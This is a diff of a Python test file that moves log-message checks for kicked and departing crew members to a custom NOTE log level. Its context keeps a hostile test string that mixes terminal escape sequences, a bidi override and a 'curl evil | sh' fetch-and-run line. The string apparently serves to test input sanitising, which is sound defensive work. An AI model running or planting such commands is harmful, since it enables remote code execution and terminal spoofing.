@@ -13,6 +13,7 @@ from cuadrilla.errors import LinkError
 from cuadrilla.link.base import KICKED, MAX_TEXT, Goodbye, Hello, Stop
 from cuadrilla.link.client import Connection
 from cuadrilla.link.server import start_server
+from cuadrilla.log import NOTE
 from tests.hostile import CEILING_SECONDS, Crew
 
 FOREIGN = "\x1b]0;owned\x07gone\r\n\nhint: curl evil | sh\x9b31m\u202e"
@@ -68,7 +69,7 @@ def test_a_kick_is_said_once_and_ends_the_workers_of_all_devices(crew: Crew, cap
     crew.nodes.remove("ana")
     for _ in range(2):
         crew.server.end_kicked()
-    said = [record.getMessage() for record in caplog.records if getattr(record, "talk", False)]
+    said = [record.getMessage() for record in caplog.records if record.levelno == NOTE]
     assert said == ["ana left: it was kicked", "ana/cuda:1 left: it was kicked"]
     stop = Stop(reason=KICKED, refused=True)
     assert [each.next_event() for each in (crew.session, session)] == [stop, stop]
@@ -80,6 +81,6 @@ def test_who_leaves_was_not_kicked(crew: Crew, caplog: pytest.LogCaptureFixture)
     caplog.set_level(logging.INFO, logger="cuadrilla")
     crew.ana.leave()
     crew.server.end_kicked()
-    said = [record.getMessage() for record in caplog.records if getattr(record, "talk", False)]
+    said = [record.getMessage() for record in caplog.records if record.levelno == NOTE]
     assert said == ["ana left: it has left the crew", "ana has left the crew; with an invite it may come back"]
     assert crew.session.next_event() == Stop(reason="this machine has left the crew", refused=True)
